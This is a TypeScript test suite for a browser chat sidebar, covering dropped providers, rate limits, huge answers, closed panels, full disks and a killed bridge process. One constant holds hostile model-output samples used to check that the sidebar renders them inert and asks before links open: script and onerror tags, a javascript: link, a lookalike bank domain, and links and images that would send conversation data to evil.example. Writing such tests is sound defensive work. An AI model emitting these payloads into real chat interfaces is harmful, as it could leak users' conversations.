// What can go wrong in a chat: a provider that goes, hostile words, very long ones, a panel that closes, a bridge that ends.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { serious } from "../driver/axe.ts";
import { until } from "../driver/browser.ts";
import { Sidebar } from "../driver/sidebar.ts";
import { SmallDisk } from "../driver/small_disk.ts";
import { importChat, placeOf, say, talking } from "../driver/talking.ts";
import { writeToolsServer } from "../driver/tools_server.ts";
import { type World, inBrowsers } from "../driver/world.ts";

const HOSTILE = [
  "<img src=https://evil.example/a.png onerror=alert(1)><script>alert(1)</script>",
  "![picture](https://evil.example/b.png?secret=1)",
  "[bank](https://bank.example.evil.example/) [run](javascript:alert(1)) [data](https://evil.example/?q=all-that-you-said)",
  "\u202Egnp.exe **un*closed _marks `and",
].join("\n\n");

for (const inBrowser of inBrowsers) {
  describe(inBrowser.name, () => {
    test("a provider that goes in the middle of an answer leaves what has come, says so, and one button tries again", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel, echo) => {
          await say(panel, "<cut>");
          await panel.says(".conversation li:last-child [data-code]", /./);
          echo.script.push(async () => "whole again");
          await panel.click(".conversation li:last-child button[aria-label], .conversation li:last-child button");
          await panel.says(".conversation .answer .markdown", /whole again/);
        }),
      ));

    test("a provider that takes no more requests says until when; that is counted down, and one button tries again", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel, echo) => {
          // Longer than Harbor waits by itself.
          echo.limits.push(90);
          await say(panel, "hello");
          await panel.says(".conversation li:last-child [data-code]", /the harbour is full/);
          await panel.says(".conversation [role=timer]", /in 1 min 29 s|in 1 min 30 s/);
          await panel.says(".conversation [role=timer]", /in 1 min 2[0-8] s/);
          echo.script.push(async () => "room again");
          await panel.click(".conversation li:last-child button");
          await panel.says(".conversation .answer .markdown", /room again/);
          assert.equal(await panel.count("[role=timer]"), 0);
        }),
      ));

    test("a model's HTML is text, its pictures are not loaded, and a link that carries data asks before it opens", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel, echo) => {
          echo.script.push(async () => HOSTILE);
          await say(panel, "go");
          await panel.says(".conversation .answer .markdown", /<script>alert\(1\)/);
          assert.equal(await panel.count(".markdown :is(img, script, iframe, [onerror], [href^='javascript'])"), 0);
          assert.match(await panel.text(".markdown"), /bank \(bank\.example\.evil\.example\)/);
          await panel.click(".markdown a[href*='q=']");
          await panel.says("#foot .notice", /carries data.*all-that-you-said/s);
          await panel.click("#stay");
          await panel.gone("#foot .notice");
          assert.equal(await world.browser.count("evil.example"), 0);
        }),
      ));

    test("an answer of 50 kB and a list of 10,000 items are shown, and the person can type meanwhile", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel, echo) => {
          await say(panel, "<many 9000>");
          await panel.type("#say-text", "a draft");
          await panel.says(".conversation .answer .markdown", / 8999/);
          assert.equal(await panel.page.run("return document.querySelector('#say-text').value"), "a draft");
          echo.script.push(async () => "- x\n".repeat(10_000));
          await panel.type("#say-text", "list");
          await panel.click("#send");
          await panel.says(".conversation li.answer:last-child", /Show/);
          assert.ok((await panel.count(".markdown li")) <= 1_000);
        }),
      ));

    test("a panel that closes while a call waits finds the question again; a turn that ends without a panel is told", () =>
      inBrowser.run(async (world: World) => {
        await world.harbor.cli("add", "weather", "--", "node", await writeToolsServer(world.harbor));
        await talking(world, async (panel, echo) => {
          echo.script.push(async () => ({ tool: "report", args: {} }));
          await say(panel, "report it");
          await panel.says(".step[data-state=asked]", /report/);
          const place = await placeOf(panel);
          await panel.page.close();
          const again = await Sidebar.open(world.browser, place);
          await until("the yes", async () => (await again.count("[data-answer=once]:not([aria-disabled])")) > 0 || undefined);
          await again.click("[data-answer=once]");
          await again.says(".step[data-state=failed]", /report/);
          await again.says(".usage", /tokens/);
          await say(again, "<rate 2 4>");
          await again.says(".conversation li.answer:last-child .markdown", /0@/);
          const other = await Sidebar.open(world.browser, "servers");
          await again.page.close();
          await until("the notice", async () => ((await other.page.run("return Object.keys(await chrome.notifications.getAll()).join()")) as string).includes(place) || undefined);
          await other.go(place);
          await other.says(".conversation li.answer:last-child .markdown", /7@/);
        });
      }));

    test("a full disk is said in the chat, takes nothing of it, and has all of it once there is room", (context) =>
      inBrowser.run(async (world: World) => {
        const sessions = join(world.harbor.env["HARBOR_HOME"] ?? "", "sessions");
        const disk = SmallDisk.at(sessions);
        if (disk === undefined) return context.skip("only root may mount a small disk");
        try {
          await talking(world, async (panel, echo) => {
            echo.script.push(async () => "an answer to keep");
            await say(panel, `a long question ${"word ".repeat(8_000)}`);
            await panel.says(".conversation .note", /not written to the disk yet.*No space left/s);
            await panel.says(".conversation .answer .markdown", /an answer to keep/);
            await panel.text("#send");
            assert.deepEqual(await serious(panel.page), []);
            const isKept = () => readdirSync(sessions).some((file) => file.endsWith(".json") && readFileSync(join(sessions, file), "utf8").includes("an answer to keep"));
            assert.equal(isKept(), false);
            disk.grow();
            await until("the chat on the disk", async () => isKept() || undefined);
            const again = await Sidebar.open(world.browser, await placeOf(panel));
            await again.says(".conversation .answer .markdown", /an answer to keep/);
          });
        } finally {
          disk.end();
        }
      }));

    test("a bridge that is killed in the middle leaves the chat readable, and the next one goes on with it", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel, echo) => {
          await say(panel, "before");
          await panel.says(".conversation .answer .markdown", /before/);
          await say(panel, "<hang>");
          await panel.says(".conversation li:nth-child(4) .markdown", /and/);
          const { bridge } = JSON.parse(await world.harbor.cli("status", "--json"));
          execFileSync("kill", ["-9", String(bridge.pid)]);
          await panel.says(".conversation li:nth-child(3) .text", /<hang>/);
          // What was seen stays to be seen, and is said to be all that there is.
          await panel.says(".conversation li:nth-child(4) .markdown", /and/);
          await panel.says(".conversation li:last-child [data-code]", /Harbor ended in the middle of this answer/);
          await until("a chat that can be said something", async () => (await panel.count("#send")) > 0 || undefined);
          echo.script.push(async () => "after");
          await say(panel, "go on");
          await panel.says(".conversation li.answer:last-child .markdown", /after/);
        }),
      ));

    test("of two windows that send at once one is answered, and the other has its words again", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel) => {
          await say(panel, "first");
          await panel.says(".conversation .answer .markdown", /first/);
          const other = await Sidebar.open(world.browser, await placeOf(panel));
          await other.says(".conversation .answer .markdown", /first/);
          const both: [Sidebar, string][] = [
            [panel, "from one <rate 2 2>"],
            [other, "from the other <rate 2 2>"],
          ];
          await Promise.all(both.map(([one, text]) => one.type("#say-text", text)));
          await Promise.all(both.map(([one]) => one.page.run("document.querySelector('#send').click()")));
          const typed = ([one]: [Sidebar, string]) => one.page.run("return document.querySelector('#say-text').value") as Promise<string>;
          const late = await until("the words that came back", async () => (await Promise.all(both.map(typed))).map((text, at) => [text, at] as const).find(([text]) => text !== ""));
          assert.equal(late[0], both[late[1]]?.[1]);
          await both[late[1]]?.[0].says("#foot", /Another window sent a message first/);
          for (const [one] of both) await one.says(".conversation li.answer:last-child .markdown", /3@/);
        }),
      ));

    test("Escape stops the first answer of a chat, and the keyboard stays in the field; a chat that is deleted elsewhere waits for nothing", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel) => {
          const press = (key: string) => panel.page.run(`document.activeElement.dispatchEvent(new KeyboardEvent("keydown", { key: "${key}", bubbles: true, cancelable: true }))`);
          await panel.type("#say-text", "<hang>");
          await panel.page.run(`document.querySelector("#say-text").focus()`);
          await press("Enter");
          await panel.says(".conversation .answer .markdown", /and/);
          assert.equal(await panel.page.run("return document.activeElement?.id"), "say-text");
          await press("Escape");
          await panel.says(".conversation li:last-child", /You stopped it/);
          await say(panel, "<hang>");
          await panel.says(".conversation li:nth-child(5) .markdown, .conversation li:nth-child(4) .markdown", /and/);
          await world.harbor.cli("sessions", "delete", (await placeOf(panel)).replace("chat/", ""));
          await until("a chat that waits for nothing", async () => ((await panel.count("#send")) > 0 && (await panel.count(".under-way")) === 0) || undefined);
        }),
      ));

    test("a background that the browser ends in the middle of an answer leaves nothing out", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel) => {
          await say(panel, "<rate 5 4>");
          await panel.says(".conversation .answer .markdown", /1@/);
          await world.browser.endBackgrounds(panel.page);
          const said = await panel.says(".conversation .answer .markdown", /19@/);
          assert.deepEqual([...said.matchAll(/(\d+)@/g)].map(([, at]) => Number(at)), Array.from({ length: 20 }, (_, at) => at));
          await panel.text("#send");
        }),
      ));

    test("of a thousand messages the newest are elements, and the others come when they are wanted", () =>
      inBrowser.run(async (world: World) =>
        talking(world, async (panel) => {
          await say(panel, "one");
          await panel.says(".conversation .answer .markdown", /one/);
          await panel.go("chats");
          await panel.text(".chats");
          await importChat(panel, Array.from({ length: 1_000 }, (_, at) => `message ${at}`));
          await panel.says(".conversation", /message 999/);
          assert.equal(await panel.count(".conversation > li"), 200);
          await panel.click("#earlier");
          await until("earlier ones", async () => (await panel.count(".conversation > li")) === 400 || undefined);
        }),
      ));
  });
}
